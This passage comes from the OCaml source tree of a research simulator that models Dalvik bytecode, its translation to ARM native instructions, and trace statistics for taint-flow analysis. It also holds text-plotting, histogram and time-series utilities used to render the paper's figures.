  s.values.(s.len) <- value;
  s.len <- s.len + 1

let last_value s = if s.len = 0 then None else Some s.values.(s.len - 1)

let record_if_changed s ~time ~value =
  match last_value s with
  | Some v when v = value -> ()
  | Some _ | None -> record s ~time ~value

let length s = s.len

let max_value s =
  if s.len = 0 then None
  else begin
    let m = ref s.values.(0) in
    for i = 1 to s.len - 1 do
      if s.values.(i) > !m then m := s.values.(i)
    done;
    Some !m
  end

let to_list s =
  List.init s.len (fun i -> (s.times.(i), s.values.(i)))

let value_at s t =
  (* Largest index with time <= t, by binary search. *)
  if s.len = 0 || s.times.(0) > t then 0
  else begin
    let lo = ref 0 and hi = ref (s.len - 1) in
    while !lo < !hi do
      let mid = (!lo + !hi + 1) / 2 in
      if s.times.(mid) <= t then lo := mid else hi := mid - 1
    done;
    s.values.(!lo)
  end

let downsample s n =
  if n <= 0 then invalid_arg "Series.downsample: non-positive n";
  if s.len <= n then to_list s
  else begin
    let t0 = s.times.(0) and t1 = s.times.(s.len - 1) in
    let span = max 1 (t1 - t0) in
    let sample i =
      let t = t0 + (span * i / (n - 1)) in
      (t, value_at s t)
    in
    List.init n sample
  end
