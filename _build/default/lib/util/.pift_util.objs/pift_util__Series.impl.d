lib/util/series.ml: Array List
