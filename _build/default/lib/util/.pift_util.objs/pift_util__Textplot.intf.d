lib/util/textplot.mli: Format Histogram
