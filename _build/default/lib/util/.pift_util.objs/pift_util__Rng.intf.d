lib/util/rng.mli:
