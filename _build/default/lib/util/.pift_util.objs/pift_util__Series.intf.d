lib/util/series.mli:
