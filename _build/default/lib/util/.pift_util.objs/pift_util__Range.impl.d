lib/util/range.ml: Format Int
