lib/util/textplot.ml: Array Float Format Histogram List String
