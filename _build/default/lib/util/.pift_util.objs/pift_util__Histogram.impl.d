lib/util/histogram.ml: Format Hashtbl Int List
