lib/util/range.mli: Format
