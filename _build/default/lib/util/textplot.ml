let repeat_char c n = String.make (max 0 n) c

let bar_chart ?(width = 50) ~title items ppf () =
  Format.fprintf ppf "@[<v>== %s ==@," title;
  let vmax = List.fold_left (fun m (_, v) -> Float.max m v) 0. items in
  let label_w =
    List.fold_left (fun m (l, _) -> max m (String.length l)) 0 items
  in
  let draw (label, v) =
    let n =
      if vmax <= 0. then 0
      else int_of_float (Float.round (v /. vmax *. float_of_int width))
    in
    Format.fprintf ppf "%-*s | %-*s %g@," label_w label width
      (repeat_char '#' n) v
  in
  List.iter draw items;
  Format.fprintf ppf "@]@."

let distribution ?(max_bin = 30) ~title h ppf () =
  Format.fprintf ppf "@[<v>== %s ==@," title;
  if Histogram.is_empty h then Format.fprintf ppf "(empty)@,"
  else begin
    Format.fprintf ppf "%a@," Histogram.pp_summary h;
    Format.fprintf ppf "%6s %10s %8s %8s  %s@," "value" "count" "pdf" "cdf"
      "";
    let overflow = ref 0 in
    let draw (v, n) =
      if v > max_bin then overflow := !overflow + n
      else begin
        let p = Histogram.pdf h v and c = Histogram.cdf h v in
        let bar = repeat_char '#' (int_of_float (p *. 60.)) in
        Format.fprintf ppf "%6d %10d %8.4f %8.4f  %s@," v n p c bar
      end
    in
    List.iter draw (Histogram.bindings h);
    if !overflow > 0 then
      Format.fprintf ppf "%5s%d %10d %8.4f %8s@," ">" max_bin !overflow
        (float_of_int !overflow /. float_of_int (Histogram.total h))
        ""
  end;
  Format.fprintf ppf "@]@."

let glyphs = [| '*'; 'o'; '+'; 'x'; '#'; '@'; '%'; '&'; '$'; '~' |]

let series ?(height = 18) ?(log_scale = false) ~title curves ppf () =
  Format.fprintf ppf "@[<v>== %s ==@," title;
  let all = List.concat_map snd curves in
  if all = [] then Format.fprintf ppf "(no data)@]@."
  else begin
    let tmax = List.fold_left (fun m (t, _) -> max m t) 0 all in
    let tmin = List.fold_left (fun m (t, _) -> min m t) max_int all in
    let vmax = List.fold_left (fun m (_, v) -> max m v) 1 all in
    let width = 72 in
    let scale_v v =
      let v = max v 0 in
      let f =
        if log_scale then
          log (float_of_int (v + 1)) /. log (float_of_int (vmax + 1))
        else float_of_int v /. float_of_int vmax
      in
      min (height - 1) (int_of_float (f *. float_of_int (height - 1)))
    in
    let scale_t t =
      if tmax = tmin then 0
      else min (width - 1) ((t - tmin) * (width - 1) / (tmax - tmin))
    in
    let grid = Array.make_matrix height width ' ' in
    let draw_curve idx (_, points) =
      let g = glyphs.(idx mod Array.length glyphs) in
      let plot (t, v) = grid.(height - 1 - scale_v v).(scale_t t) <- g in
      List.iter plot points
    in
    (* draw back-to-front so the first (primary) curve stays visible
       where curves overlap *)
    List.iteri
      (fun i curve -> draw_curve (List.length curves - 1 - i) curve)
      (List.rev curves);
    let axis_note = if log_scale then " (log scale)" else "" in
    Format.fprintf ppf "y: 0..%d%s, x: %d..%d@," vmax axis_note tmin tmax;
    Array.iter
      (fun row ->
        Format.fprintf ppf "|%s@," (String.init width (Array.get row)))
      grid;
    Format.fprintf ppf "+%s@," (repeat_char '-' width);
    List.iteri
      (fun idx (label, _) ->
        Format.fprintf ppf "  %c = %s@,"
          glyphs.(idx mod Array.length glyphs)
          label)
      curves
  end;
  Format.fprintf ppf "@]@."

let heatmap ~title ~row_label ~col_label ~rows ~cols cell ppf () =
  Format.fprintf ppf "@[<v>== %s ==@," title;
  Format.fprintf ppf "rows: %s, cols: %s@," row_label col_label;
  let cell_w = 8 in
  Format.fprintf ppf "%6s" "";
  List.iter (fun c -> Format.fprintf ppf "%*d" cell_w c) cols;
  Format.fprintf ppf "@,";
  let draw_row r =
    Format.fprintf ppf "%6d" r;
    let draw_cell c =
      let v = cell ~row:r ~col:c in
      if Float.is_integer v && Float.abs v < 1e7 then
        Format.fprintf ppf "%*.0f" cell_w v
      else if Float.abs v >= 1000. then Format.fprintf ppf "%*.3g" cell_w v
      else Format.fprintf ppf "%*.3f" cell_w v
    in
    List.iter draw_cell cols;
    Format.fprintf ppf "@,"
  in
  List.iter draw_row rows;
  Format.fprintf ppf "@]@."
