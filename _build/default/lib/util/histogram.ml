type t = { tbl : (int, int ref) Hashtbl.t; mutable total : int }

let create () = { tbl = Hashtbl.create 64; total = 0 }

let add_many h v n =
  if n < 0 then invalid_arg "Histogram.add_many: negative count";
  (match Hashtbl.find_opt h.tbl v with
  | Some r -> r := !r + n
  | None -> Hashtbl.add h.tbl v (ref n));
  h.total <- h.total + n

let add h v = add_many h v 1

let count h v =
  match Hashtbl.find_opt h.tbl v with Some r -> !r | None -> 0

let total h = h.total
let is_empty h = h.total = 0

let pdf h v =
  if h.total = 0 then 0. else float_of_int (count h v) /. float_of_int h.total

let bindings h =
  Hashtbl.fold (fun v r acc -> (v, !r) :: acc) h.tbl []
  |> List.sort (fun (a, _) (b, _) -> Int.compare a b)

let cdf h v =
  if h.total = 0 then 0.
  else begin
    let below =
      Hashtbl.fold
        (fun v' r acc -> if v' <= v then acc + !r else acc)
        h.tbl 0
    in
    float_of_int below /. float_of_int h.total
  end

let fold_values f h init =
  Hashtbl.fold (fun v r acc -> f v !r acc) h.tbl init

let mean h =
  if h.total = 0 then 0.
  else
    let sum = fold_values (fun v n acc -> acc + (v * n)) h 0 in
    float_of_int sum /. float_of_int h.total

let max_value h =
  if is_empty h then invalid_arg "Histogram.max_value: empty";
  fold_values (fun v _ acc -> max v acc) h min_int

let min_value h =
  if is_empty h then invalid_arg "Histogram.min_value: empty";
  fold_values (fun v _ acc -> min v acc) h max_int

let percentile h p =
  if is_empty h then invalid_arg "Histogram.percentile: empty";
  if p < 0. || p > 1. then invalid_arg "Histogram.percentile: p out of [0,1]";
  let target = p *. float_of_int h.total in
  let rec scan acc = function
    | [] -> invalid_arg "Histogram.percentile: unreachable"
    | [ (v, _) ] -> v
    | (v, n) :: rest ->
        let acc = acc + n in
        if float_of_int acc >= target then v else scan acc rest
  in
  scan 0 (bindings h)

let merge a b =
  let h = create () in
  List.iter (fun (v, n) -> add_many h v n) (bindings a);
  List.iter (fun (v, n) -> add_many h v n) (bindings b);
  h

let pp_summary ppf h =
  if is_empty h then Format.fprintf ppf "(empty)"
  else
    Format.fprintf ppf "n=%d mean=%.2f min=%d max=%d p50=%d p99=%d" h.total
      (mean h) (min_value h) (max_value h) (percentile h 0.5)
      (percentile h 0.99)
