(** Deterministic xorshift64* random number generator.

    Workload generators and property tests need reproducible randomness
    that does not depend on [Stdlib.Random] global state. *)

type t

val create : int -> t
(** [create seed] — any seed is accepted; 0 is remapped internally. *)

val int : t -> int -> int
(** [int t bound] is uniform in [\[0, bound)].  Raises [Invalid_argument]
    when [bound <= 0]. *)

val int_in : t -> int -> int -> int
(** [int_in t lo hi] is uniform in [\[lo, hi\]] inclusive. *)

val bool : t -> bool
val float : t -> float -> float

val pick : t -> 'a array -> 'a
(** Uniform element of a non-empty array. *)

val shuffle : t -> 'a array -> unit
(** In-place Fisher–Yates shuffle. *)

val split : t -> t
(** Derive an independent generator (for parallel sub-streams). *)
