(** ASCII rendering of the paper's figures: bar-chart distributions,
    log-scale time series, and NI×NT heatmaps.

    The bench harness and the CLI print every reproduced figure through
    these renderers so results are readable in a terminal and diffable in
    [bench_output.txt]. *)

val bar_chart :
  ?width:int ->
  title:string ->
  (string * float) list ->
  Format.formatter ->
  unit ->
  unit
(** Horizontal bars, one per labelled value, scaled to the maximum. *)

val distribution :
  ?max_bin:int ->
  title:string ->
  Histogram.t ->
  Format.formatter ->
  unit ->
  unit
(** pdf + cdf table with bars for an integer histogram (Fig. 2 style).
    Bins above [max_bin] are folded into a final ">max" row. *)

val series :
  ?height:int ->
  ?log_scale:bool ->
  title:string ->
  (string * (int * int) list) list ->
  Format.formatter ->
  unit ->
  unit
(** Multi-curve scatter over a shared time axis (Fig. 15/16 style).  Each
    curve is drawn with its own glyph; a legend maps glyphs to labels. *)

val heatmap :
  title:string ->
  row_label:string ->
  col_label:string ->
  rows:int list ->
  cols:int list ->
  (row:int -> col:int -> float) ->
  Format.formatter ->
  unit ->
  unit
(** Numeric grid (Fig. 11/14/17 style): columns are [cols] (e.g. NI), rows
    are [rows] (e.g. NT), cells printed with adaptive precision. *)
