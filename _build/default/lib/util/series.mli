(** Append-only time series of [(time, value)] samples.

    Records metric evolution over the instruction stream (paper Figs. 15
    and 16: tainted bytes and cumulative operations vs. instruction
    index). *)

type t

val create : ?name:string -> unit -> t
val name : t -> string

val record : t -> time:int -> value:int -> unit
(** Append a sample.  Times must be non-decreasing. *)

val record_if_changed : t -> time:int -> value:int -> unit
(** Append only when [value] differs from the last recorded value. *)

val length : t -> int
val last_value : t -> int option
val max_value : t -> int option
val to_list : t -> (int * int) list

val value_at : t -> int -> int
(** [value_at s t] is the most recent value recorded at or before time [t];
    0 if none. *)

val downsample : t -> int -> (int * int) list
(** [downsample s n] picks at most [n] samples evenly spread over the
    recorded time span (always including the last sample). *)
