(** Integer-keyed frequency histograms with pdf/cdf views.

    Used for the paper's trace statistics (Fig. 2, Fig. 12): distributions
    over instruction distances and store counts. *)

type t

val create : unit -> t

val add : t -> int -> unit
(** Record one observation of value [v]. *)

val add_many : t -> int -> int -> unit
(** [add_many h v n] records [n] observations of [v]. *)

val count : t -> int -> int
(** Observations of exactly [v]. *)

val total : t -> int
(** Total number of observations. *)

val is_empty : t -> bool

val pdf : t -> int -> float
(** Probability mass at [v]; 0 for an empty histogram. *)

val cdf : t -> int -> float
(** Cumulative probability of values [<= v]. *)

val mean : t -> float
val max_value : t -> int
val min_value : t -> int

val percentile : t -> float -> int
(** [percentile h p] with [p] in [0,1]: smallest [v] with [cdf h v >= p].
    Raises [Invalid_argument] on an empty histogram. *)

val bindings : t -> (int * int) list
(** Sorted [(value, count)] pairs. *)

val merge : t -> t -> t
(** New histogram combining both inputs. *)

val pp_summary : Format.formatter -> t -> unit
