type t = {
  methods : (string, Method.t) Hashtbl.t;
  classes : (string, string list) Hashtbl.t;
  entry : string;
  method_list : Method.t list;
}

let make ?(classes = []) ~entry methods =
  let tbl = Hashtbl.create 16 in
  List.iter
    (fun (m : Method.t) ->
      if Hashtbl.mem tbl m.Method.name then
        invalid_arg ("Program.make: duplicate method " ^ m.Method.name);
      Hashtbl.add tbl m.Method.name m)
    methods;
  if not (Hashtbl.mem tbl entry) then
    invalid_arg ("Program.make: missing entry method " ^ entry);
  let cls = Hashtbl.create 8 in
  List.iter (fun (name, fields) -> Hashtbl.replace cls name fields) classes;
  { methods = tbl; classes = cls; entry; method_list = methods }

let entry t = t.entry
let find_method t name = Hashtbl.find_opt t.methods name
let methods t = t.method_list

let field_index t ~class_name ~field =
  match Hashtbl.find_opt t.classes class_name with
  | None -> failwith ("Program.field_index: unknown class " ^ class_name)
  | Some fields -> (
      let rec scan i = function
        | [] ->
            failwith
              (Printf.sprintf "Program.field_index: no field %s in %s" field
                 class_name)
        | f :: rest -> if String.equal f field then i else scan (i + 1) rest
      in
      scan 0 fields)

let field_count t ~class_name =
  match Hashtbl.find_opt t.classes class_name with
  | None -> 0
  | Some fields -> List.length fields
