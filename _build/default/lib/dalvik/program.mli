(** A loaded application: its methods and class definitions.

    Classes declare their instance fields (word-sized) in order; field
    resolution at [iget]/[iput] goes through the receiver's runtime class,
    as the interpreter's quickened field access would. *)

type t

val make :
  ?classes:(string * string list) list -> entry:string -> Method.t list -> t
(** Raises [Invalid_argument] on duplicate method names or a missing
    entry method. *)

val entry : t -> string
val find_method : t -> string -> Method.t option
val methods : t -> Method.t list

val field_index : t -> class_name:string -> field:string -> int
(** Raises [Failure] for an unknown class/field. *)

val field_count : t -> class_name:string -> int
(** Number of declared fields; 0 for undeclared classes. *)
