(** Bytecode → native translation rules (the paper's Fig. 8/9 and §4.1).

    Each bytecode executes as a fixed sequence of native instructions in
    the style of the Dalvik portable interpreter:

    - operand decode ([mov rX, #v] — immediates are baked where the real
      interpreter extracts them from [rINST]),
    - [GET_VREG]: [ldr reg, \[rFP, rX lsl #2\]],
    - [FETCH_ADVANCE_INST]: [ldrh rINST, \[rPC, #4\]!] — a real load from
      simulated code memory,
    - the operation itself,
    - [GET_INST_OPCODE]/[GOTO_OPCODE]: [and r12, rINST, #255] and the
      handler-address computation,
    - [SET_VREG]: [str reg, \[rFP, rX lsl #2\]].

    Because the rules are fixed, the distance from the load of actual
    data to the store is a per-opcode constant — Table 1.  The
    {!expected_distance} values here are asserted against dynamic
    measurements in the test suite. *)

type resolved =
  | Plain of Bytecode.t
      (** any bytecode without external references *)
  | Static of Bytecode.t * int  (** sget/sput with the field's address *)
  | Field of Bytecode.t * int  (** iget/iput with the field byte offset *)
  | Invoke_bytecode of { arg_moves : (int * int) list; callee_registers : int }
      (** (caller src vreg, callee dst register) argument copies *)
  | Invoke_native of int list  (** caller src vregs loaded into r0..r3,r9 *)
  | New_ref of int  (** allocator result (in r0) stored to vA *)

val fragment : resolved -> Pift_arm.Asm.fragment
(** Raises [Invalid_argument] when the bytecode inside doesn't match the
    resolution (e.g. [Static] wrapping a non-static opcode). *)

val jit_optimize : Pift_arm.Asm.fragment -> Pift_arm.Asm.fragment
(** What a JIT / AOT compiler does to a handler (§4.1 "Impact of Dalvik
    JIT and ART"): removes the interpreter's fetch ([ldrh rINST, \[rPC\]!]),
    opcode extraction and dispatch-address computation, then dead-code
    eliminates the now-unused scratch work ({!Pift_arm.Scrubber}).
    Virtual registers stay in memory — the paper's argument for why
    compilation barely changes the load/store structure. *)

type distance_spec =
  | Fixed of int  (** exact load→store distance in native instructions *)
  | Approx of int * int  (** within an interval (long arithmetic) *)
  | Unknown  (** runtime-ABI helper call; distance data-dependent *)
  | No_flow  (** no data load feeding a store *)

val expected_distance : Bytecode.t -> distance_spec
(** The Table 1 row for this opcode. *)
