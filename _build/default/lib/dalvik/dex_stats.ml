type row = {
  mnemonic : string;
  count : int;
  share : float;
  moves_data : bool;
  distance : Translate.distance_spec;
}

let fold_bytecodes f init programs =
  List.fold_left
    (fun acc program ->
      List.fold_left
        (fun acc (m : Method.t) -> Array.fold_left f acc m.Method.code)
        acc (Program.methods program))
    init programs

let total_bytecodes programs = fold_bytecodes (fun n _ -> n + 1) 0 programs

let rows programs =
  let counts : (string, int ref * Bytecode.t) Hashtbl.t = Hashtbl.create 64 in
  let total =
    fold_bytecodes
      (fun n bc ->
        let key = Bytecode.mnemonic bc in
        (match Hashtbl.find_opt counts key with
        | Some (r, _) -> incr r
        | None -> Hashtbl.add counts key (ref 1, bc));
        n + 1)
      0 programs
  in
  Hashtbl.fold
    (fun mnemonic (r, bc) acc ->
      {
        mnemonic;
        count = !r;
        share = (if total = 0 then 0. else float_of_int !r /. float_of_int total);
        moves_data = Bytecode.moves_data bc;
        distance = Translate.expected_distance bc;
      }
      :: acc)
    counts []
  |> List.sort (fun a b -> Int.compare b.count a.count)

let top n programs =
  let all = rows programs in
  List.filteri (fun i _ -> i < n) all
