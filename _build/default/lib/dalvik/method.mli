(** Methods: register count, argument count, bytecode body, and exception
    handler table.

    As in Dalvik, arguments occupy the *last* [ins] registers of the
    frame.  Handlers are (try-start, try-end exclusive, handler-pc)
    triples searched in order. *)

type handler = { try_start : int; try_end : int; target : int }

type t = {
  name : string;
  registers : int;
  ins : int;
  code : Bytecode.t array;
  handlers : handler list;
  mutable code_addr : int;  (** simulated code address, set at load *)
  frags : Pift_arm.Asm.fragment option array;  (** translation cache *)
}

val make :
  name:string ->
  registers:int ->
  ins:int ->
  ?handlers:handler list ->
  Bytecode.t list ->
  t
(** Raises [Invalid_argument] on an empty body, [ins > registers], or a
    handler/branch target outside the body. *)

val arg_reg : t -> int -> int
(** Frame register index of argument [i]. *)

val frame_bytes : t -> int

val handler_for : t -> pc:int -> int option
(** Handler pc covering [pc], if any. *)
