type handler = { try_start : int; try_end : int; target : int }

type t = {
  name : string;
  registers : int;
  ins : int;
  code : Bytecode.t array;
  handlers : handler list;
  mutable code_addr : int;
  frags : Pift_arm.Asm.fragment option array;
}

let check_target name len pc =
  if pc < 0 || pc >= len then
    invalid_arg
      (Printf.sprintf "Method.make(%s): branch target %d outside body" name
         pc)

let targets = function
  | Bytecode.Goto l -> [ l ]
  | Bytecode.If_test (_, _, _, l) | Bytecode.If_testz (_, _, l) -> [ l ]
  | Bytecode.Packed_switch (_, table, default) ->
      default :: List.map snd table
  | _ -> []

let make ~name ~registers ~ins ?(handlers = []) code =
  if code = [] then invalid_arg "Method.make: empty body";
  if ins > registers then invalid_arg "Method.make: ins > registers";
  if registers <= 0 then invalid_arg "Method.make: no registers";
  let code = Array.of_list code in
  let len = Array.length code in
  Array.iter (fun bc -> List.iter (check_target name len) (targets bc)) code;
  List.iter
    (fun h ->
      check_target name len h.target;
      if h.try_start < 0 || h.try_end > len || h.try_start >= h.try_end then
        invalid_arg (Printf.sprintf "Method.make(%s): bad try range" name))
    handlers;
  {
    name;
    registers;
    ins;
    code;
    handlers;
    code_addr = 0;
    frags = Array.make len None;
  }

let arg_reg t i =
  if i < 0 || i >= t.ins then invalid_arg "Method.arg_reg: bad index";
  t.registers - t.ins + i

let frame_bytes t = 4 * t.registers

let handler_for t ~pc =
  List.find_map
    (fun h ->
      if h.try_start <= pc && pc < h.try_end then Some h.target else None)
    t.handlers
