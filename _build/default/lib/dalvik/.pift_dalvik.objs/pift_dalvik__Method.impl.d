lib/dalvik/method.ml: Array Bytecode List Pift_arm Printf
