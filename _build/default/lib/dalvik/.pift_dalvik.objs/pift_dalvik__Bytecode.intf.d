lib/dalvik/bytecode.mli: Format
