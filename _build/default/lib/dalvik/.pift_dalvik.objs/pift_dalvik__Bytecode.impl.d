lib/dalvik/bytecode.ml: Format Hashtbl
