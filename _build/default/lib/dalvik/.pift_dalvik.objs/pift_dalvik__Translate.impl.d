lib/dalvik/translate.ml: Array Bytecode List Pift_arm Pift_runtime
