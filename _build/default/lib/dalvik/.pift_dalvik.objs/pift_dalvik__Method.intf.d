lib/dalvik/method.mli: Bytecode Pift_arm
