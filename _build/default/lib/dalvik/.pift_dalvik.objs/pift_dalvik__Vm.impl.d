lib/dalvik/vm.ml: Array Bytecode Hashtbl Lazy List Method Pift_arm Pift_machine Pift_runtime Printf Program String Translate
