lib/dalvik/dex_stats.mli: Program Translate
