lib/dalvik/translate.mli: Bytecode Pift_arm
