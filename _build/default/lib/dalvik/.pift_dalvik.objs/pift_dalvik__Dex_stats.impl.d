lib/dalvik/dex_stats.ml: Array Bytecode Hashtbl Int List Method Program Translate
