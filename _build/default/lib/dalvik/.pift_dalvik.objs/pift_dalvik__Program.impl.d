lib/dalvik/program.ml: Hashtbl List Method Printf String
