lib/dalvik/program.mli: Method
