lib/dalvik/vm.mli: Pift_runtime Program
