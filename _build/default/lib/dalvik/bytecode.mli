(** The Dalvik-style register-based bytecode set.

    Operands are virtual-register indices; each virtual register is a
    4-byte slot in the in-memory frame at [rFP + 4*v] — the property the
    paper's predictability argument rests on (§4.1): every bytecode that
    moves data issues real loads and stores against the frame.

    Method and field references are by name (the workloads are assembled
    programmatically; there is no dex parser).  Branch targets are
    bytecode indices within the method. *)

type v = int
(** Virtual-register index. *)

type label = int
(** Bytecode index within the enclosing method. *)

type binop = Add | Sub | Mul | Div | Rem | And | Or | Xor | Shl | Shr

type test = Eq | Ne | Lt | Ge | Gt | Le

type invoke_kind = Virtual | Direct | Static | Interface | Super

type t =
  | Nop
  | Move of v * v
  | Move_from16 of v * v
  | Move_wide of v * v  (** moves the pair (v, v+1) *)
  | Move_object of v * v
  | Move_object_from16 of v * v
  | Move_result of v
  | Move_result_object of v
  | Move_exception of v
  | Const4 of v * int
  | Const16 of v * int
  | Const of v * int
  | Const_string of v * string
  | Return_void
  | Return of v
  | Return_wide of v
  | Return_object of v
  | New_instance of v * string
  | New_array of v * v * string  (** dst, length, element class *)
  | Array_length of v * v
  | Aget of v * v * v  (** value, array, index — int elements *)
  | Aget_char of v * v * v
  | Aget_byte of v * v * v
  | Aget_object of v * v * v
  | Aput of v * v * v
  | Aput_char of v * v * v
  | Aput_byte of v * v * v
  | Aput_object of v * v * v
  | Iget of v * v * string  (** value, object, field *)
  | Iget_object of v * v * string
  | Iget_wide of v * v * string
  | Iput of v * v * string
  | Iput_object of v * v * string
  | Sget of v * string
  | Sget_object of v * string
  | Sput of v * string
  | Sput_object of v * string
  | Binop of binop * v * v * v  (** dst, src1, src2 *)
  | Binop_2addr of binop * v * v  (** dst/src1, src2 *)
  | Binop_lit8 of binop * v * v * int
  | Neg_int of v * v
  | Int_to_char of v * v
  | Int_to_byte of v * v
  | Int_to_long of v * v  (** dst pair, src *)
  | Long_to_int of v * v  (** dst, src pair *)
  | Add_long of v * v * v  (** operates on register pairs *)
  | Sub_long of v * v * v
  | Mul_long of v * v * v
  | Shr_long of v * v * v  (** dst pair, src pair, shift (single reg) *)
  | Cmp_long of v * v * v
  | Goto of label
  | If_test of test * v * v * label
  | If_testz of test * v * label
  | Packed_switch of v * (int * label) list * label
      (** value, (case, target) table, default target *)
  | Invoke of invoke_kind * string * v list
  | Invoke_range of invoke_kind * string * v list
      (** semantically identical to [Invoke]; the /range encoding *)
  | Monitor_enter of v
  | Monitor_exit of v
  | Check_cast of v * string
  | Instance_of of v * v * string
  | Throw of v

val mnemonic : t -> string
(** Dalvik-style opcode name, e.g. ["mul-int/2addr"], ["iget-object"]. *)

val opcode : t -> int
(** Stable 0–255 encoding (written into simulated code memory so the
    interpreter's fetch loads read real values). *)

val moves_data : t -> bool
(** Does this bytecode move data (real or reference) between storage
    locations — the highlighted rows of Fig. 10. *)

val pp : Format.formatter -> t -> unit
