(** Static bytecode-frequency analysis over loaded programs — the
    methodology behind the paper's Fig. 10 (distribution of the top-30
    bytecodes in application and system-library dex files, annotated with
    their load–store distances). *)

type row = {
  mnemonic : string;
  count : int;
  share : float;  (** fraction of all counted bytecodes *)
  moves_data : bool;
  distance : Translate.distance_spec;
}

val rows : Program.t list -> row list
(** All opcodes by descending frequency. *)

val top : int -> Program.t list -> row list

val total_bytecodes : Program.t list -> int
