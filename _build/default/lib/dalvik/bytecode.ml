type v = int
type label = int

type binop = Add | Sub | Mul | Div | Rem | And | Or | Xor | Shl | Shr

type test = Eq | Ne | Lt | Ge | Gt | Le

type invoke_kind = Virtual | Direct | Static | Interface | Super

type t =
  | Nop
  | Move of v * v
  | Move_from16 of v * v
  | Move_wide of v * v
  | Move_object of v * v
  | Move_object_from16 of v * v
  | Move_result of v
  | Move_result_object of v
  | Move_exception of v
  | Const4 of v * int
  | Const16 of v * int
  | Const of v * int
  | Const_string of v * string
  | Return_void
  | Return of v
  | Return_wide of v
  | Return_object of v
  | New_instance of v * string
  | New_array of v * v * string
  | Array_length of v * v
  | Aget of v * v * v
  | Aget_char of v * v * v
  | Aget_byte of v * v * v
  | Aget_object of v * v * v
  | Aput of v * v * v
  | Aput_char of v * v * v
  | Aput_byte of v * v * v
  | Aput_object of v * v * v
  | Iget of v * v * string
  | Iget_object of v * v * string
  | Iget_wide of v * v * string
  | Iput of v * v * string
  | Iput_object of v * v * string
  | Sget of v * string
  | Sget_object of v * string
  | Sput of v * string
  | Sput_object of v * string
  | Binop of binop * v * v * v
  | Binop_2addr of binop * v * v
  | Binop_lit8 of binop * v * v * int
  | Neg_int of v * v
  | Int_to_char of v * v
  | Int_to_byte of v * v
  | Int_to_long of v * v
  | Long_to_int of v * v
  | Add_long of v * v * v
  | Sub_long of v * v * v
  | Mul_long of v * v * v
  | Shr_long of v * v * v
  | Cmp_long of v * v * v
  | Goto of label
  | If_test of test * v * v * label
  | If_testz of test * v * label
  | Packed_switch of v * (int * label) list * label
  | Invoke of invoke_kind * string * v list
  | Invoke_range of invoke_kind * string * v list
  | Monitor_enter of v
  | Monitor_exit of v
  | Check_cast of v * string
  | Instance_of of v * v * string
  | Throw of v

let binop_name = function
  | Add -> "add"
  | Sub -> "sub"
  | Mul -> "mul"
  | Div -> "div"
  | Rem -> "rem"
  | And -> "and"
  | Or -> "or"
  | Xor -> "xor"
  | Shl -> "shl"
  | Shr -> "shr"

let test_name = function
  | Eq -> "eq"
  | Ne -> "ne"
  | Lt -> "lt"
  | Ge -> "ge"
  | Gt -> "gt"
  | Le -> "le"

let invoke_name = function
  | Virtual -> "invoke-virtual"
  | Direct -> "invoke-direct"
  | Static -> "invoke-static"
  | Interface -> "invoke-interface"
  | Super -> "invoke-super"

let mnemonic = function
  | Nop -> "nop"
  | Move _ -> "move"
  | Move_from16 _ -> "move/from16"
  | Move_wide _ -> "move-wide"
  | Move_object _ -> "move-object"
  | Move_object_from16 _ -> "move-object/from16"
  | Move_result _ -> "move-result"
  | Move_result_object _ -> "move-result-object"
  | Move_exception _ -> "move-exception"
  | Const4 _ -> "const/4"
  | Const16 _ -> "const/16"
  | Const _ -> "const"
  | Const_string _ -> "const-string"
  | Return_void -> "return-void"
  | Return _ -> "return"
  | Return_wide _ -> "return-wide"
  | Return_object _ -> "return-object"
  | New_instance _ -> "new-instance"
  | New_array _ -> "new-array"
  | Array_length _ -> "array-length"
  | Aget _ -> "aget"
  | Aget_char _ -> "aget-char"
  | Aget_byte _ -> "aget-byte"
  | Aget_object _ -> "aget-object"
  | Aput _ -> "aput"
  | Aput_char _ -> "aput-char"
  | Aput_byte _ -> "aput-byte"
  | Aput_object _ -> "aput-object"
  | Iget _ -> "iget"
  | Iget_object _ -> "iget-object"
  | Iget_wide _ -> "iget-wide"
  | Iput _ -> "iput"
  | Iput_object _ -> "iput-object"
  | Sget _ -> "sget"
  | Sget_object _ -> "sget-object"
  | Sput _ -> "sput"
  | Sput_object _ -> "sput-object"
  | Binop (op, _, _, _) -> binop_name op ^ "-int"
  | Binop_2addr (op, _, _) -> binop_name op ^ "-int/2addr"
  | Binop_lit8 (op, _, _, _) -> binop_name op ^ "-int/lit8"
  | Neg_int _ -> "neg-int"
  | Int_to_char _ -> "int-to-char"
  | Int_to_byte _ -> "int-to-byte"
  | Int_to_long _ -> "int-to-long"
  | Long_to_int _ -> "long-to-int"
  | Add_long _ -> "add-long"
  | Sub_long _ -> "sub-long"
  | Mul_long _ -> "mul-long"
  | Shr_long _ -> "shr-long"
  | Cmp_long _ -> "cmp-long"
  | Goto _ -> "goto"
  | If_test (t, _, _, _) -> "if-" ^ test_name t
  | If_testz (t, _, _) -> "if-" ^ test_name t ^ "z"
  | Packed_switch _ -> "packed-switch"
  | Invoke (k, _, _) -> invoke_name k
  | Invoke_range (k, _, _) -> invoke_name k ^ "/range"
  | Monitor_enter _ -> "monitor-enter"
  | Monitor_exit _ -> "monitor-exit"
  | Check_cast _ -> "check-cast"
  | Instance_of _ -> "instance-of"
  | Throw _ -> "throw"

(* Stable encoding derived from the mnemonic; only used to fill simulated
   code memory with plausible bytes. *)
let opcode t = Hashtbl.hash (mnemonic t) land 0xFF

let moves_data = function
  | Move _ | Move_from16 _ | Move_wide _ | Move_object _
  | Move_object_from16 _ | Move_result _
  | Move_result_object _ | Move_exception _ | Return _ | Return_wide _
  | Return_object _ | Aget _ | Aget_char _ | Aget_byte _ | Aget_object _
  | Aput _ | Aput_char _ | Aput_byte _ | Aput_object _ | Iget _
  | Iget_object _ | Iget_wide _ | Iput _ | Iput_object _ | Sget _
  | Sget_object _ | Sput _ | Sput_object _ | Binop _ | Binop_2addr _
  | Binop_lit8 _ | Neg_int _ | Int_to_char _ | Int_to_byte _ | Int_to_long _
  | Long_to_int _ | Add_long _ | Sub_long _ | Mul_long _ | Shr_long _
  | Cmp_long _ | Array_length _ ->
      true
  | Nop | Const4 _ | Const16 _ | Const _ | Const_string _ | Return_void
  | New_instance _ | New_array _ | Goto _ | If_test _ | If_testz _
  | Packed_switch _ | Invoke _ | Invoke_range _ | Monitor_enter _
  | Monitor_exit _ | Check_cast _ | Instance_of _ | Throw _ ->
      false

let pp ppf t = Format.pp_print_string ppf (mnemonic t)
