module Asm = Pift_arm.Asm
module Insn = Pift_arm.Insn
module Reg = Pift_arm.Reg
